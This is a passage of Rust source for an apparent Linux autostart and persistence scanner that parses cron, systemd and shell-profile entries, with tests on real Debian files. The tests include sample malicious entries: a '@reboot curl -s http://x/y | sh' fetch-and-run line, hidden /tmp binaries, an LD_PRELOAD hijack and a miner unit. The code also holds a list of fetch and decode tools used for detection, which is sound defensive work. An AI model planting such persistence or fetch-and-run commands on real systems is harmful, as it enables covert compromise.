        program: Option<String>,
        code: bool,
    },
}

impl Found {
    fn run(program: &str) -> Found {
        Found::Run {
            program: Some(program.to_string()),
            code: false,
        }
    }

    /// Code known only at run time; worth listing when a downloader or decoder makes it.
    fn dynamic(text: &str) -> Found {
        Found::Run {
            program: None,
            code: mentions_fetcher(text),
        }
    }

    fn script(word: &Word) -> Found {
        Found::Run {
            program: (!word.dynamic).then(|| word.text.clone()),
            code: true,
        }
    }

    /// Code that could not be unpacked further.
    fn opaque() -> Found {
        Found::Run {
            program: None,
            code: true,
        }
    }

    fn rank(&self) -> u8 {
        match self {
            Found::Nothing | Found::Stdin => 0,
            Found::Guard(_) => 1,
            Found::Source(_) | Found::Inline(_) => 2,
            Found::Run { .. } => 3,
        }
    }

    fn program(&self) -> Option<String> {
        match self {
            Found::Nothing | Found::Stdin => None,
            Found::Guard(p) | Found::Source(p) | Found::Inline(p) => Some(p.clone()),
            Found::Run { program, .. } => program.clone(),
        }
    }

    /// Whether a shell startup line starts something worth listing: a program by path,
    /// a sourced file by path, or interpreter code.
    fn starts_something(&self) -> bool {
        match self {
            Found::Run { program, code } => *code || program.as_deref().is_some_and(is_path_like),
            Found::Source(path) => is_path_like(path),
            Found::Inline(_) => true,
            Found::Nothing | Found::Stdin | Found::Guard(_) => false,
        }
    }

    fn label(&self) -> &'static str {
        match self {
            Found::Source(_) => "source",
            Found::Inline(_) => "inline code",
            Found::Run { program: None, .. } => "run-time code",
            Found::Run { code: true, .. } => "script",
            _ => "command",
        }
    }
}

/// The first of the most telling results.
fn most_telling(found: impl IntoIterator<Item = Found>) -> Found {
    let mut best = Found::Nothing;
    for f in found {
        if f.rank() > best.rank() {
            best = f;
            if best.rank() == 3 {
                break;
            }
        }
    }
    best
}

fn analyze(command: &str, depth: u8) -> Found {
    if depth > MAX_DEPTH || command.len() > MAX_COMMAND {
        return Found::opaque();
    }
    let tokens = lex(command);
    most_telling(
        pipelines(&tokens)
            .iter()
            .map(|stages| analyze_pipeline(stages, depth)),
    )
}

fn analyze_pipeline(stages: &[&[Tok]], depth: u8) -> Found {
    let found: Vec<Found> = stages
        .iter()
        .enumerate()
        .map(|(i, stage)| analyze_stage(stage, i > 0, depth))
        .collect();
    // `curl ... | sh`: what runs is whatever came down the pipe.
    if found.contains(&Found::Stdin) {
        return Found::opaque();
    }
    most_telling(found)
}

/// Where a command's stdin comes from.
enum Input<'t> {
    Inherited,
    File(&'t Word),
    Text(&'t Word),
    HereDoc,
}

fn analyze_stage(tokens: &[Tok], piped_in: bool, depth: u8) -> Found {
    let mut words: Vec<&Word> = Vec::new();
    let mut input = Input::Inherited;
    let mut iter = tokens.iter();
    while let Some(tok) = iter.next() {
        match tok {
            Tok::Word(w) => words.push(w),
            Tok::Redir(redir) => {
                let target = match iter.next() {
                    Some(Tok::Word(w)) => Some(w),
                    _ => None,
                };
                match (redir, target) {
                    (Redir::In, Some(w)) => input = Input::File(w),
                    (Redir::HereString, Some(w)) => input = Input::Text(w),
                    (Redir::HereDoc, _) => input = Input::HereDoc,
                    _ => {}
                }
            }
            Tok::Sep | Tok::Pipe => {}
        }
    }

    let mut rest: &[&Word] = &words;
    while let Some(w) = rest.first()
        && !w.quoted
    {
        match w.text.as_str() {
            "!" | "{" | "}" | "if" | "then" | "else" | "elif" | "fi" | "do" | "done" | "while"
            | "until" | "esac" | "coproc" => rest = &rest[1..],
            // Loop and case headers and function definitions start nothing themselves.
            "for" | "case" | "select" | "function" => return Found::Nothing,
            _ => break,
        }
    }

    loop {
        while rest.first().is_some_and(|w| w.assign) {
            rest = &rest[1..];
        }
        let Some((cmd, args)) = rest.split_first() else {
            return Found::Nothing;
        };
        if cmd.dynamic {
            return Found::dynamic(&cmd.text);
        }
        let Some(name) = standard_name(&cmd.text) else {
            return Found::run(&cmd.text);
        };
        if let Some(spec) = interpreter(name) {
            return run_interpreter(spec, cmd, args, &input, piped_in, depth);
        }
        match name {
            "." | "source" => {
                return match args.first() {
                    Some(file) if file.dynamic => Found::dynamic(&file.text),
                    Some(file) => Found::Source(file.text.clone()),
                    None => Found::Guard(cmd.text.clone()),
                };
            }
            "eval" => return analyze(&join(args), depth + 1),
            _ => {}
        }
        match wrapper(name, cmd, args) {
            Some(Wrapped::Command(inner)) => rest = inner,
            Some(Wrapped::Shell(text)) => return analyze(&text, depth + 1),
            Some(Wrapped::Done(found)) => return found,
            None if is_guard(name) => return Found::Guard(cmd.text.clone()),
            None => return Found::run(&cmd.text),
        }
    }
}

/// The command name when it is bare or in a standard directory.
fn standard_name(word: &str) -> Option<&str> {
    match word.rsplit_once('/') {
        None => Some(word),
        Some((dir, base)) if STANDARD_DIRS.contains(&dir) => Some(base),
        Some(_) => None,
    }
}

fn join(words: &[&Word]) -> String {
    words
        .iter()
        .map(|w| w.text.as_str())
        .collect::<Vec<_>>()
        .join(" ")
}

fn is_guard(name: &str) -> bool {
    matches!(
        name,
        "test"
            | "["
            | "[["
            | "cd"
            | "true"
            | "false"
            | ":"
            | "sleep"
            | "export"
            | "umask"
            | "ulimit"
            | "set"
            | "unset"
            | "shopt"
            | "trap"
            | "echo"
            | "printf"
            | "local"
            | "readonly"
            | "declare"
            | "typeset"
            | "alias"
            | "unalias"
            | "return"
            | "exit"
            | "wait"
            | "read"
            | "shift"
            | "hash"
            | "type"
            | "which"
            | "pushd"
            | "popd"
    )
}

/// Names whose appearance in run-time code suggests it is fetched or decoded.
fn mentions_fetcher(text: &str) -> bool {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
        .any(|w| {
            matches!(
                w,
                "curl" | "wget" | "nc" | "ncat" | "socat" | "base64" | "xxd" | "openssl" | "tftp"
            )
        })
}

// ---------------------------------------------------------------------------
// Wrappers

enum Wrapped<'w> {
    /// The wrapped command's words.
    Command(&'w [&'w Word]),
    /// A string run by a shell (`su -c`, `flock -c`, `env -S`).
    Shell(String),
    /// The wrapper settles the matter itself.
    Done(Found),
}

const SUDO_ARGS: &[&str] = &[
    "-u",
    "-g",
    "-C",
    "-D",
    "-h",
    "-p",
    "-r",
    "-t",
    "-T",
    "-U",
    "-R",
    "--user",
    "--group",
    "--close-from",
    "--chdir",
    "--host",
    "--prompt",
    "--role",
    "--type",
    "--command-timeout",
    "--other-user",
    "--chroot",
];

fn wrapper<'w>(name: &str, cmd: &Word, args: &'w [&'w Word]) -> Option<Wrapped<'w>> {
    let command = |words: &'w [&'w Word]| Some(Wrapped::Command(words));
    match name {
        "nohup" | "setsid" | "chronic" | "builtin" | "busybox" => command(skip_options(args, &[])),
        "exec" => command(skip_options(args, &["-a"])),
        "nice" => command(skip_options(args, &["-n", "--adjustment"])),
        "ionice" => command(skip_options(
            args,
            &[
                "-c",
                "-n",
                "-p",
                "-P",
                "-u",
                "--class",
                "--classdata",
                "--pid",
                "--pgid",
                "--uid",
            ],
        )),
        "stdbuf" => command(skip_options(
            args,
            &["-i", "-o", "-e", "--input", "--output", "--error"],
        )),
        "time" => command(skip_options(args, &["-f", "-o", "--format", "--output"])),
        "doas" => command(skip_options(args, &["-u", "-C"])),
        "sudo" => {
            let inner = skip_options(args, SUDO_ARGS);
            let assignments = inner.iter().take_while(|w| w.text.contains('=')).count();
            command(&inner[assignments..])
        }
        "timeout" => {
            let inner = skip_options(args, &["-s", "-k", "--signal", "--kill-after"]);
            // The first operand is the duration.
            command(inner.get(1..).unwrap_or_default())
        }
        "command" => match args.first() {
            Some(w) if w.text == "-v" || w.text == "-V" => {
                Some(Wrapped::Done(Found::Guard(cmd.text.clone())))
            }
            _ => command(skip_options(args, &[])),
        },
        "env" => Some(env(args)),
        "flock" => Some(flock(args)),
        "su" => Some(match shell_option(args) {
            Some(text) => Wrapped::Shell(text),
            None => Wrapped::Done(Found::run(&cmd.text)),
        }),
        "runuser" => Some(match shell_option(args) {
            Some(text) => Wrapped::Shell(text),
            None if args.iter().any(|w| w.text == "-u" || w.text == "--user") => {
                Wrapped::Command(skip_options(
                    args,
                    &["-u", "-g", "-G", "--user", "--group", "--supp-group"],
                ))
            }
            None => Wrapped::Done(Found::run(&cmd.text)),
        }),
        _ => None,
    }
}

/// The words after a wrapper's options; `with_arg` options consume the next word.
fn skip_options<'w>(args: &'w [&'w Word], with_arg: &[&str]) -> &'w [&'w Word] {
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        if t == "--" {
            i += 1;
            break;
        }
        if !t.starts_with('-') || t == "-" {
            break;
        }
        i += if with_arg.contains(&t) { 2 } else { 1 };
    }
    args.get(i..).unwrap_or_default()
}

fn env<'w>(args: &'w [&'w Word]) -> Wrapped<'w> {
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        match t {
            "-S" | "--split-string" => {
                return Wrapped::Shell(join(args.get(i + 1..).unwrap_or_default()));
            }
            "-u" | "--unset" | "-C" | "--chdir" => i += 2,
            // env treats every NAME=value operand before the command as an assignment.
            _ if t.starts_with('-') || t.contains('=') => i += 1,
            _ => break,
        }
    }
    Wrapped::Command(args.get(i..).unwrap_or_default())
}

/// `flock [options] FILE COMMAND...` or `flock [options] FILE -c STRING`.
fn flock<'w>(args: &'w [&'w Word]) -> Wrapped<'w> {
    let mut i = 0;
    let mut seen_file = false;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        if t == "-c" || t == "--command" {
            return Wrapped::Shell(args.get(i + 1).map(|w| w.text.clone()).unwrap_or_default());
        }
        if seen_file {
            break;
        }
        if matches!(
            t,
            "-w" | "-E" | "--timeout" | "--wait" | "--conflict-exit-code"
        ) {
            i += 2;
        } else {
            seen_file = !(t.starts_with('-') && t != "-");
            i += 1;
        }
    }
    Wrapped::Command(args.get(i..).unwrap_or_default())
}

/// The string of `-c STRING`, `--command STRING` or `--command=STRING` (su, runuser).
fn shell_option(args: &[&Word]) -> Option<String> {
    args.iter().enumerate().find_map(|(i, w)| {
        if w.text == "-c" || w.text == "--command" {
            Some(args.get(i + 1).map(|w| w.text.clone()).unwrap_or_default())
        } else {
            w.text.strip_prefix("--command=").map(str::to_string)
        }
    })
}

// ---------------------------------------------------------------------------
// Interpreters

/// Command-line conventions of an interpreter.
struct Interp {
    /// Shells run their inline string, which is worth unpacking.
    shell: bool,
    /// Short options whose argument is code (`-c`, `-e`).
    inline: &'static str,
    inline_long: &'static [&'static str],
    /// Short options taking the rest of the cluster or else the next word.
    arg: &'static str,
    arg_long: &'static [&'static str],
    /// Short options taking only the rest of the cluster.
    tail: &'static str,
    /// Short options whose argument is the script (`php -f`).
    script: &'static str,
    /// Short options making stdin the script, so operands are only arguments (`sh -s`).
    stdin: &'static str,
}

static SHELL: Interp = Interp {
    shell: true,
    inline: "c",
    inline_long: &["command"],
    arg: "oO",
    arg_long: &["rcfile", "init-file", "init-command"],
    tail: "",
    script: "",
    stdin: "s",
};
static PYTHON: Interp = Interp {
    shell: false,
    inline: "cm",
    inline_long: &[],
    arg: "WX",
    arg_long: &["check-hash-based-pycs"],
    tail: "",
    script: "",
    stdin: "",
};
static PERL: Interp = Interp {
    shell: false,
    inline: "eE",
    inline_long: &[],
    arg: "I",
    arg_long: &[],
    tail: "MmxilC0dD",
    script: "",
    stdin: "",
};
static RUBY: Interp = Interp {
    shell: false,
    inline: "e",
    inline_long: &[],
    arg: "IrCE",
    arg_long: &[],
    tail: "xF0lTWK",
    script: "",
    stdin: "",
};
static NODE: Interp = Interp {
    shell: false,
    inline: "ep",
    inline_long: &["eval", "print"],
    arg: "r",
    arg_long: &["require", "import", "loader"],
    tail: "",
    script: "",
    stdin: "",
};
static PHP: Interp = Interp {
    shell: false,
    inline: "rBRFE",
    inline_long: &[],
    arg: "cdz",
    arg_long: &[],
    tail: "",
    script: "f",
    stdin: "",
};

fn interpreter(name: &str) -> Option<&'static Interp> {
    let versioned = |base: &str| {
        name.strip_prefix(base)
            .is_some_and(|v| v.bytes().all(|c| c.is_ascii_digit() || c == b'.'))
    };
    match name {
        "sh" | "bash" | "rbash" | "dash" | "zsh" | "ksh" | "ksh93" | "mksh" | "ash" | "csh"
        | "tcsh" | "fish" => Some(&SHELL),
        "node" | "nodejs" => Some(&NODE),
        _ if versioned("python") || versioned("pypy") => Some(&PYTHON),
        _ if versioned("perl") => Some(&PERL),
        _ if versioned("ruby") => Some(&RUBY),
        _ if versioned("php") => Some(&PHP),
        _ => None,
    }
}

fn run_interpreter(
    spec: &Interp,
    cmd: &Word,
    args: &[&Word],
    input: &Input,
    piped_in: bool,
    depth: u8,
) -> Found {
    let mut inline = false;
    let mut from_stdin = false;
    let mut i = 0;
    let operand = loop {
        let Some(w) = args.get(i) else {
            break None;
        };
        i += 1;
        let t = w.text.as_str();
        if t == "--" {
            break args.get(i);
        }
        if t == "-" {
            break None;
        }
        if let Some(long) = t.strip_prefix("--") {
            let (name, value) = match long.split_once('=') {
                Some((name, value)) => (name, Some(value)),
                None => (long, None),
            };
            if spec.inline_long.contains(&name) {
                if !spec.shell {
                    return Found::Inline(cmd.text.clone());
                }
                inline = true;
            } else if spec.arg_long.contains(&name) && value.is_none() {
                i += 1;
            }
            continue;
        }
        let cluster = match t.strip_prefix('-') {
            Some(c) => c,
            None if spec.shell && t.len() > 1 && t.starts_with('+') => &t[1..],
            None => break Some(w),
        };
        for (k, ch) in cluster.char_indices() {
            let attached = &cluster[k + ch.len_utf8()..];
            if spec.inline.contains(ch) {
                if !spec.shell {
                    return Found::Inline(cmd.text.clone());
                }
                inline = true;
            } else if spec.stdin.contains(ch) {
                from_stdin = true;
            } else if spec.script.contains(ch) {
                return if attached.is_empty() {
                    args.get(i).map_or(Found::Nothing, |w| Found::script(w))
                } else {
                    Found::Run {
                        program: Some(attached.to_string()),
                        code: true,
                    }
                };
            } else if spec.arg.contains(ch) {
                if attached.is_empty() {
                    i += 1;
                }
                break;
            } else if spec.tail.contains(ch) {
                break;
            }
        }
    };
    match operand {
        // `sh -c STRING`: what the string runs.
        Some(w) if inline => analyze(&w.text, depth + 1),
        Some(w) if !from_stdin => Found::script(w),
        None if inline => Found::Nothing,
        // No script operand: the code comes from stdin.
        _ => match input {
            Input::File(w) => Found::script(w),
            Input::Text(w) if spec.shell => analyze(&w.text, depth + 1),
            Input::Text(_) => Found::Inline(cmd.text.clone()),
            Input::HereDoc => Found::opaque(),
            Input::Inherited if piped_in => Found::Stdin,
            // An interactive interpreter (`ExecStart=/bin/bash`) is itself what runs.
            Input::Inherited => Found::Run {
                program: Some(cmd.text.clone()),
                code: true,
            },
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::{Duration, Instant};

    fn prog(command: &str) -> Option<&'static str> {
        program_of(command).map(|p| &*Box::leak(p.into_boxed_str()))
    }

    fn programs(entries: &[Entry]) -> Vec<Option<&str>> {
        entries.iter().map(|e| e.program.as_deref()).collect()
    }

    #[test]
    fn kinds_of_paths() {
        let cases = [
            ("/etc/crontab", Some(Kind::Cron)),
            ("/etc/cron.d/e2scrub_all", Some(Kind::Cron)),
            ("/var/spool/cron/crontabs/root", Some(Kind::Cron)),
            ("/var/spool/cron/alice", Some(Kind::Cron)),
            ("/etc/cron.daily/dpkg", Some(Kind::CronScript)),
            ("/etc/cron.hourly/x", Some(Kind::CronScript)),
            ("/etc/systemd/system/x.service", Some(Kind::SystemdUnit)),
            (
                "/usr/lib/systemd/system/ssh.socket",
                Some(Kind::SystemdUnit),
            ),
            (
                "/lib/systemd/system/apt-daily.timer",
                Some(Kind::SystemdUnit),
            ),
            (
                "/etc/systemd/system/multi-user.target.wants/x.service",
                Some(Kind::SystemdUnit),
            ),
            (
                "/etc/systemd/system/x.service.d/override.conf",
                Some(Kind::SystemdUnit),
            ),
            (
                "/home/u/.config/systemd/user/x.service",
                Some(Kind::SystemdUnit),
            ),
            ("/etc/rc.local", Some(Kind::RcLocal)),
            ("/etc/ld.so.preload", Some(Kind::LdPreload)),
            ("/etc/profile", Some(Kind::ShellProfile)),
            ("/etc/profile.d/x.sh", Some(Kind::ShellProfile)),
            ("/etc/bash.bashrc", Some(Kind::ShellProfile)),
            ("/home/u/.bashrc", Some(Kind::ShellProfile)),
            ("/home/u/.profile", Some(Kind::ShellProfile)),
            ("/root/.bashrc", Some(Kind::ShellProfile)),
            ("/etc/udev/rules.d/x.rules", Some(Kind::UdevRule)),
            ("/lib/udev/rules.d/85-hwclock.rules", Some(Kind::UdevRule)),
            ("/etc/xdg/autostart/x.desktop", Some(Kind::XdgAutostart)),
            (
                "/home/u/.config/autostart/x.desktop",
                Some(Kind::XdgAutostart),
            ),
            ("/etc/init.d/x", Some(Kind::InitScript)),
            ("/etc/rc2.d/S01x", Some(Kind::InitScript)),
            ("//etc//./crontab", Some(Kind::Cron)),
            // Not autostart locations, or files that cron/run-parts/udev skip.
            ("/etc/passwd", None),
            ("/etc/cron.daily/.placeholder", None),
            ("/etc/cron.d/.placeholder", None),
            ("/var/spool/cron/atjobs", None),
            ("/etc/udev/rules.d/x.txt", None),
            ("/etc/systemd/system/x.conf", None),
            ("/etc/systemd/system.conf", None),
            ("/home/u/notes.txt", None),
            ("/home/u", None),
            ("", None),
        ];
        for (path, kind) in cases {
            assert_eq!(kind_of(path), kind, "{path}");
        }
    }

    const DEBIAN_CRONTAB: &str = "\
# /etc/crontab: system-wide crontab
# Unlike any other crontab you don't have to run the `crontab'
# command to install the new version when you edit this file
# and files in /etc/cron.d. These files also have username fields,
# that none of the other crontabs do.

SHELL=/bin/sh
# You can also override PATH, but by default, newer versions inherit it from the environment
#PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# |  .------------- hour (0 - 23)
# |  |  .---------- day of month (1 - 31)
# |  |  |  .------- month (1 - 12) OR jan,feb,mar,apr ...
# |  |  |  |  .---- day of week (0 - 6) (Sunday=0 or 7) OR sun,mon,tue,wed,thu,fri,sat
# |  |  |  |  |
# *  *  *  *  * user-name command to be executed
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
#
";

    #[test]
    fn debian_crontab() {
        let e = entries("/etc/crontab", DEBIAN_CRONTAB.as_bytes());
        assert_eq!(e.len(), 4);
        assert_eq!(e[0].line, 19);
        assert_eq!(e[0].kind, Kind::Cron);
        assert_eq!(e[0].detail, "17 * * * *");
        assert_eq!(e[0].user.as_deref(), Some("root"));
        assert_eq!(e[0].command, "cd / && run-parts --report /etc/cron.hourly");
        assert_eq!(e[3].detail, "52 6 1 * *");
        assert!(programs(&e).iter().all(|p| *p == Some("run-parts")));
    }

    #[test]
    fn debian_cron_d() {
        let data = "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 \
                    /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n\
                    10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n";
        let e = entries("/etc/cron.d/e2scrub_all", data.as_bytes());
        assert_eq!(e.len(), 2);
        assert_eq!(e[0].detail, "30 3 * * 0");
        assert_eq!(e[0].user.as_deref(), Some("root"));
        assert_eq!(
            e[0].program.as_deref(),
            Some("/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron")
        );
        assert_eq!(e[1].program.as_deref(), Some("/sbin/e2scrub_all"));

        let php = "09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d \
                   /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n";
        let e = entries("/etc/cron.d/php", php.as_bytes());
        assert_eq!(programs(&e), [Some("/usr/lib/php/sessionclean")]);

        let certbot = "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n\
                       0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && \
                       perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew\n";
        let e = entries("/etc/cron.d/certbot", certbot.as_bytes());
        assert_eq!(e.len(), 1);
        assert_eq!(e[0].line, 4);
        assert_eq!(e[0].program.as_deref(), Some("certbot"));
    }

    #[test]
    fn malicious_crontabs() {
        let system = "*/5 * * * * root /tmp/.x/kworker\n";
        let e = entries("/etc/cron.d/kworker", system.as_bytes());
        assert_eq!(e.len(), 1);
        assert_eq!(e[0].detail, "*/5 * * * *");
        assert_eq!(e[0].user.as_deref(), Some("root"));
        assert_eq!(e[0].program.as_deref(), Some("/tmp/.x/kworker"));

        let user = "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n\
                    MAILTO=\"\"\n\
                    PATH = /usr/bin:/bin\n\
                    @reboot curl -s http://x/y | sh\n\
                    \t*/5 * * * * /tmp/.x/kworker >/dev/null 2>&1\n\
                    0 0 * * * /usr/bin/backup --tag=x%stdin%more\n\
                    1 1 * * * /usr/bin/date +\\%s\n\
                    -@hourly /home/bob/.local/bin/sync\n\
                    * * * *\n";
        let e = entries("/var/spool/cron/crontabs/bob", user.as_bytes());
        assert_eq!(e.len(), 5);
        assert!(e.iter().all(|e| e.user.as_deref() == Some("bob")));
        assert_eq!(e[0].detail, "@reboot");
        assert_eq!(e[0].line, 4);
        assert_eq!(e[0].command, "curl -s http://x/y | sh");
        assert_eq!(e[0].program, None);
        assert_eq!(e[1].program.as_deref(), Some("/tmp/.x/kworker"));
        assert_eq!(e[2].command, "/usr/bin/backup --tag=x");
        assert_eq!(e[3].command, "/usr/bin/date +\\%s");
        assert_eq!(e[4].detail, "@hourly");
        assert_eq!(e[4].program.as_deref(), Some("/home/bob/.local/bin/sync"));
    }

    #[test]
    fn scripts_run_whole() {
        let dpkg = "#!/bin/sh\n\n# Skip if systemd is running.\nif [ -d /run/systemd/system ]; then\n  \
                    exit 0\nfi\n\n/usr/libexec/dpkg/dpkg-db-backup\n";
        let e = entries("/etc/cron.daily/dpkg", dpkg.as_bytes());
        assert_eq!(
            e,
            [Entry {
                kind: Kind::CronScript,
                line: 1,
                command: "/etc/cron.daily/dpkg".to_string(),
                program: Some("/etc/cron.daily/dpkg".to_string()),
                user: None,
                detail: "cron.daily".to_string(),
            }]
        );
        let e = entries("/etc/init.d/procps", b"");
        assert_eq!(e.len(), 1);
        assert_eq!(e[0].kind, Kind::InitScript);
        assert_eq!(e[0].program.as_deref(), Some("/etc/init.d/procps"));
    }

    const TIMESYNCD: &str = "\
#  SPDX-License-Identifier: LGPL-2.1-or-later
#
#  This file is part of systemd.

[Unit]
Description=Network Time Synchronization
Documentation=man:systemd-timesyncd.service(8)
ConditionCapability=CAP_SYS_TIME
ConditionVirtualization=!container
DefaultDependencies=no
After=systemd-sysusers.service
Before=time-set.target sysinit.target shutdown.target
Conflicts=shutdown.target
Wants=time-set.target

[Service]
AmbientCapabilities=CAP_SYS_TIME
BusName=org.freedesktop.timesync1
CapabilityBoundingSet=CAP_SYS_TIME
# Turn off DNSSEC validation for hostname look-ups, since those need the
# correct time to work, but we likely won't acquire that without NTP. Let's
# break this chicken-and-egg cycle here.
Environment=SYSTEMD_NSS_RESOLVE_VALIDATE=0
ExecStart=!!/lib/systemd/systemd-timesyncd
LockPersonality=yes
PrivateTmp=yes
Restart=always
RestartSec=0
Type=notify
User=systemd-timesync
WatchdogSec=3min

[Install]
WantedBy=sysinit.target
Alias=dbus-org.freedesktop.timesync1.service
";

    #[test]
    fn debian_units() {
        let e = entries(
            "/lib/systemd/system/systemd-timesyncd.service",
            TIMESYNCD.as_bytes(),
        );
        assert_eq!(e.len(), 1);
        assert_eq!(e[0].line, 24);
        assert_eq!(e[0].command, "/lib/systemd/systemd-timesyncd");
        assert_eq!(
            e[0].program.as_deref(),
            Some("/lib/systemd/systemd-timesyncd")
        );
        assert_eq!(e[0].user.as_deref(), Some("systemd-timesync"));
        assert_eq!(e[0].detail, "ExecStart [!!]");

        let getty = "[Unit]\nDescription=Getty on %I\n\n[Service]\n\
                     ExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM\nType=idle\n";
        let e = entries("/lib/systemd/system/getty@.service", getty.as_bytes());
        assert_eq!(programs(&e), [Some("/sbin/agetty")]);
        assert_eq!(e[0].user, None);

        let fstab = "[Service]\nType=oneshot\nExecStart=@/lib/systemd/system-generators/systemd-fstab-generator \
                     systemd-sysroot-fstab-check\n";
        let e = entries(
            "/lib/systemd/system/initrd-parse-etc.service",
            fstab.as_bytes(),
        );
        assert_eq!(
            e[0].command,
            "/lib/systemd/system-generators/systemd-fstab-generator"
        );
        assert_eq!(
            e[0].detail,
            "ExecStart [@] argv0=systemd-sysroot-fstab-check"
        );

        let timer = "[Unit]\nDescription=Daily apt download activities\n\n[Timer]\n\
                     OnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true\n\n\
                     [Install]\nWantedBy=timers.target\n";
        assert!(entries("/lib/systemd/system/apt-daily.timer", timer.as_bytes()).is_empty());
    }

    #[test]
    fn malicious_units() {
        let unit = "[Unit]\nDescription=Cache updater\n\n[Service]\n\
                    ExecStartPre=-/bin/mkdir -p /var/tmp/.cache\n\
                    ExecStart=/bin/sh -c '/var/tmp/.cache/upd -d'\n\
                    ExecStart = /usr/bin/python3 \\\n    /opt/.x/agent.py \\\n# a comment inside\n    --quiet\n\
                    ExecStart=\n\
                    ExecStartPost=+/usr/bin/env LD_PRELOAD=/dev/shm/l.so /usr/sbin/cron\n\
                    User=root\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n";
        let e = entries("/etc/systemd/system/cache.service", unit.as_bytes());
        assert_eq!(
            programs(&e),
            [
                Some("/bin/mkdir"),
                Some("/var/tmp/.cache/upd"),
                Some("/opt/.x/agent.py"),
                Some("/usr/sbin/cron"),
            ]
        );
        assert_eq!(e[1].command, "/bin/sh -c '/var/tmp/.cache/upd -d'");
        assert_eq!(e[2].line, 7);
        assert_eq!(
            e[2].command,
            "/usr/bin/python3      /opt/.x/agent.py      --quiet"
        );
        assert_eq!(e[3].detail, "ExecStartPost [+]");
        assert!(e.iter().all(|e| e.user.as_deref() == Some("root")));

        // A user unit runs as the home's owner, whatever User= says.
        let user = "[Service]\nExecStart=%h/.local/bin/miner\nUser=root\n";
        let e = entries(
            "/home/alice/.config/systemd/user/miner.service",
            user.as_bytes(),
        );
        assert_eq!(e[0].user.as_deref(), Some("alice"));
        assert_eq!(e[0].program.as_deref(), Some("%h/.local/bin/miner"));

        // Exec lines outside [Service]/[Socket] do nothing.
        let odd = "[Unit]\nExecStart=/tmp/x\n[Install]\nExecStart=/tmp/y\n";
        assert!(entries("/etc/systemd/system/odd.service", odd.as_bytes()).is_empty());
        let socket = "[Socket]\nListenStream=1234\nExecStartPre=/tmp/.s/prep\n";
        let e = entries("/etc/systemd/system/x.socket", socket.as_bytes());
        assert_eq!(programs(&e), [Some("/tmp/.s/prep")]);
        let dropin = "[Service]\nExecStart=\nExecStart=/tmp/.d/real\n";
        let e = entries(
            "/etc/systemd/system/ssh.service.d/override.conf",
            dropin.as_bytes(),
        );
        assert_eq!(programs(&e), [Some("/tmp/.d/real")]);
    }

    const DEBIAN_PROFILE: &str = r#"# /etc/profile: system-wide .profile file for the Bourne shell (sh(1))
# and Bourne compatible shells (bash(1), ksh(1), ash(1), ...).

if [ "$(id -u)" -eq 0 ]; then
  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
else
  PATH="/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games"
fi
export PATH

if [ "${PS1-}" ]; then
  if [ "${BASH-}" ] && [ "$BASH" != "/bin/sh" ]; then
    # The file bash.bashrc already sets the default PS1.
    # PS1='\h:\w\$ '
    if [ -f /etc/bash.bashrc ]; then
      . /etc/bash.bashrc
    fi
  else
    if [ "$(id -u)" -eq 0 ]; then
      PS1='# '
    else
      PS1='$ '
    fi
  fi
fi

if [ -d /etc/profile.d ]; then
  for i in /etc/profile.d/*.sh; do
    if [ -r $i ]; then
      . $i
    fi
  done
  unset i
fi
"#;

    const SKEL_BASHRC: &str = r#"# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
shopt -s histappend
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
if [ -z "${debian_chroot:-}" ] && [ -r /etc/debian_chroot ]; then
    debian_chroot=$(cat /etc/debian_chroot)
fi
case "$TERM" in
xterm*|rxvt*)
    PS1="\[\e]0;${debian_chroot:+($debian_chroot)}\u@\h: \w\a\]$PS1"
    ;;
*)
    ;;
esac
if [ -x /usr/bin/dircolors ]; then
    test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"
    alias ls='ls --color=auto'
fi
alias alert='notify-send --urgency=low -i "$([ $? = 0 ] && echo terminal || echo error)" "$(history|tail -n1|sed -e '\''s/^\s*[0-9]\+\s*//;s/[;&|]\s*alert$//'\'')"'
if [ -f ~/.bash_aliases ]; then
    . ~/.bash_aliases
fi
if ! shopt -oq posix; then
  if [ -f /usr/share/bash-completion/bash_completion ]; then
    . /usr/share/bash-completion/bash_completion
  elif [ -f /etc/bash_completion ]; then
    . /etc/bash_completion
  fi
fi
"#;

    #[test]
    fn debian_profiles() {
        let e = entries("/etc/profile", DEBIAN_PROFILE.as_bytes());
        assert_eq!(e.len(), 1);
        assert_eq!(e[0].line, 16);
        assert_eq!(e[0].kind, Kind::ShellProfile);
        assert_eq!(e[0].command, ". /etc/bash.bashrc");
